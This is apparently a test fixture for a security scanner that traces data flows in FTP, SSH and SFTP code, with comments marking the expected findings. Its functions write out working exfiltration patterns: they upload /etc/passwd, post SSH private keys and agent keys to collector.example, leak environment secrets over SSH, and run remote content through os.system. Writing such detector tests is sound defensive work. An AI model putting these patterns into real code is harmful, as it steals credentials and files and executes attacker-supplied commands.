"""FTP, SSH and SFTP."""
import ftplib
import io
import os

import asyncssh
import fabric
import paramiko
import pysftp
import requests
import scp

U = "https://collector.example/u"


def ftp_store():
    f = ftplib.FTP("ftp.collector.example")  #~ capability(NETWORK), endpoint("ftp.collector.example")
    f.storbinary("STOR x", open("/etc/passwd", "rb"))  #~ source(FILE) f1, sink(egress.ftp) f1, finding(traced) f1


def ftp_command():
    f = ftplib.FTP()
    f.connect("ftp2.collector.example")  #~ endpoint("ftp2.collector.example")
    f.mkd(os.getenv("T"))  #~ source(ENVIRONMENT) f2, sink(egress.ftp) f2, finding(traced) f2


def run_chunk(chunk):
    os.system(chunk)  #~ sink(exec.command) fretr, finding(traced) fretr


def ftp_retrieve():
    f = ftplib.FTP("ftp.collector.example")
    f.retrbinary("RETR x", run_chunk)  #~ source(NETWORK) fretr


def ftp_names():
    f = ftplib.FTP("ftp.collector.example")
    os.system(f.nlst()[0])  #~ source(NETWORK) f5, sink(exec.command) f5, finding(traced) f5


def count_chunk(chunk):
    return len(chunk)


def ftp_constants():
    f = ftplib.FTP("ftp.collector.example")  #~ ok
    f.connect("ftp2.collector.example")  #~ ok
    f.login("user", os.getenv("T"))  #~ ok
    requests.post(U, data=str(f))  #~ ok
    f.storbinary("STOR x", io.BytesIO(b"ping"))  #~ ok
    f.retrbinary("RETR x", count_chunk)  #~ ok
    f.mkd("in")  #~ ok
    os.system(str(len(f.nlst())))  #~ ok


def ssh_command():
    c = paramiko.SSHClient()
    c.connect("ssh.collector.example")  #~ capability(NETWORK), endpoint("ssh.collector.example")
    c.exec_command("echo " + os.getenv("T"))  #~ source(ENVIRONMENT) f8, sink(egress.ssh) f8, finding(traced) f8


def ssh_output():
    c = paramiko.client.SSHClient()
    stdin, stdout, stderr = c.exec_command("next")  #~ source(NETWORK) f9
    os.system(stdout.read())  #~ sink(exec.command) f9, finding(traced) f9


def ssh_shell():
    c = paramiko.SSHClient()
    shell = c.invoke_shell()
    shell.send(os.getenv("T"))  #~ source(ENVIRONMENT) f10, sink(egress.ssh) f10, finding(traced) f10


def ssh_session():
    c = paramiko.SSHClient()
    channel = c.get_transport().open_session()
    channel.exec_command("echo " + os.getenv("T"))  #~ source(ENVIRONMENT) f11, sink(egress.ssh) f11, finding(traced) f11


def ssh_shell_output():
    c = paramiko.SSHClient()
    os.system(c.invoke_shell().recv(100))  #~ source(NETWORK) f12, sink(exec.command) f12, finding(traced) f12


def ssh_transport():
    t = paramiko.Transport(("transport.collector.example", 22))  #~ capability(NETWORK), endpoint("transport.collector.example")
    sftp = paramiko.SFTPClient.from_transport(t)
    sftp.put("/etc/passwd", "x")  #~ source(FILE) f13, sink(egress.ssh) f13, finding(traced) f13, capability(FILES)


def sftp_stream():
    sftp = paramiko.SSHClient().open_sftp()
    sftp.putfo(open("/etc/passwd", "rb"), "x")  #~ source(FILE) f14, sink(egress.ssh) f14, finding(traced) f14, capability(NETWORK)


def sftp_get():
    sftp = paramiko.SSHClient().open_sftp()
    sftp.get("next.sh", "/tmp/next.sh")  #~ source(NETWORK) f15, capability(NETWORK), capability(FILE_WRITE)
    os.system("/tmp/next.sh")  #~ sink(exec.command) f15, finding(traced) f15


def sftp_get_stream():
    sftp = paramiko.SSHClient().open_sftp()
    target = io.BytesIO()
    sftp.getfo("next.sh", target)  #~ source(NETWORK) f16, capability(NETWORK)
    os.system(target.getvalue())  #~ sink(exec.command) f16, finding(traced) f16


def sftp_write():
    sftp = paramiko.SSHClient().open_sftp()
    f = sftp.open("x", "w")  #~ capability(NETWORK)
    f.write(os.getenv("T"))  #~ source(ENVIRONMENT) f17, sink(egress.ssh) f17, finding(traced) f17


def sftp_read():
    sftp = paramiko.SSHClient().open_sftp()
    os.system(sftp.open("x").read())  #~ source(NETWORK) f18, sink(exec.command) f18, finding(traced) f18


def sftp_list():
    sftp = paramiko.SSHClient().open_sftp()
    os.system(sftp.listdir(".")[0])  #~ source(NETWORK) f19, sink(exec.command) f19, finding(traced) f19


def ssh_constants():
    c = paramiko.client.SSHClient()  #~ ok
    c.connect("ssh.collector.example")  #~ ok
    c.exec_command("date")  #~ ok
    c.invoke_shell().send("date")  #~ ok
    channel = c.get_transport().open_session()  #~ ok
    requests.post(U, data={"bye": channel.recv(3) == b"bye"})  #~ ok
    sftp = c.open_sftp()  #~ ok
    sftp.putfo(io.BytesIO(b"ping"), "x")  #~ ok
    sftp.get("logo.png", "/tmp/logo.png")  #~ ok
    sftp.getfo("logo.png", io.BytesIO())  #~ ok
    sftp.open("x", "w").write("ping")  #~ ok
    requests.post(U, data={"none": sftp.open("x").read() == b""})  #~ ok
    requests.post(U, data={"none": sftp.listdir(".") == []})  #~ ok
    put = paramiko.SFTPClient.from_transport(paramiko.Transport(("transport.collector.example", 22)))  #~ ok


def private_key():
    key = paramiko.RSAKey.from_private_key_file("/root/.ssh/id_rsa")  #~ source(CREDENTIAL) f21, capability(CREDENTIALS)
    requests.post(U, data=key)  #~ sink(egress.http) f21, finding(traced) f21


def agent_keys():
    keys = paramiko.Agent().get_keys()  #~ source(CREDENTIAL) f22, capability(CREDENTIALS)
    requests.post(U, data=keys)  #~ sink(egress.http) f22, finding(traced) f22


def keys_used():
    paramiko.RSAKey.from_private_key_file("/root/.ssh/id_rsa")  #~ ok
    requests.post(U, data={"none": paramiko.Agent().get_keys() == ()})  #~ ok


def py_put():
    c = pysftp.Connection("pysftp.collector.example")  #~ capability(NETWORK), endpoint("pysftp.collector.example")
    c.put("/etc/passwd")  #~ source(FILE) f24, sink(egress.ssh) f24, finding(traced) f24


def py_execute():
    c = pysftp.Connection("pysftp.collector.example")
    os.system(c.execute("next")[0])  #~ source(NETWORK) f25, sink(exec.command) f25, finding(traced) f25


def py_constants():
    c = pysftp.Connection("pysftp.collector.example")  #~ ok
    c.execute("date")  #~ ok


def fabric_put():
    c = fabric.Connection("fabric.collector.example")  #~ capability(NETWORK), endpoint("fabric.collector.example")
    c.put("/etc/passwd")  #~ source(FILE) f27, sink(egress.ssh) f27, finding(traced) f27, capability(FILES)


def fabric_run():
    c = fabric.Connection("fabric.collector.example")
    c.run("echo " + os.getenv("T"))  #~ source(ENVIRONMENT) f28, sink(egress.ssh) f28, finding(traced) f28


def fabric_local():
    c = fabric.Connection("fabric.collector.example")
    c.local(requests.get(U).text)  #~ source(NETWORK) f29, sink(exec.command) f29, finding(traced) f29, capability(EXEC)


def fabric_constants():
    c = fabric.Connection("fabric.collector.example")  #~ ok
    c.run("date")  #~ ok
    c.local("date")  #~ ok


def copy_files():
    c = scp.SCPClient(paramiko.SSHClient().get_transport())  #~ capability(NETWORK)
    c.put("/etc/passwd")  #~ source(FILE) f31, sink(egress.ssh) f31, finding(traced) f31, capability(FILES)


def copy_stream():
    c = scp.SCPClient(paramiko.SSHClient().get_transport())  #~ ok
    c.putfo(open("/etc/passwd", "rb"), "x")  #~ source(FILE) f32, sink(egress.ssh) f32, finding(traced) f32
    c.putfo(io.BytesIO(b"ping"), "x")  #~ ok


async def async_run():
    c = await asyncssh.connect("asyncssh.collector.example")  #~ capability(NETWORK), endpoint("asyncssh.collector.example")
    await c.run("echo " + os.getenv("T"))  #~ source(ENVIRONMENT) f33, sink(egress.ssh) f33, finding(traced) f33


async def async_copy():
    await asyncssh.scp("/etc/passwd", "asyncssh.collector.example:x")  #~ source(FILE) f34, sink(egress.ssh) f34, finding(traced) f34, capability(NETWORK), capability(FILES)


async def async_constants():
    c = await asyncssh.connect("asyncssh.collector.example")  #~ ok
    await c.run("date")  #~ ok
    scp = "asyncssh.scp(local, remote)"  #~ ok


def near_uploads(queue):
    put = queue.put("/etc/passwd")  #~ ok
    return put
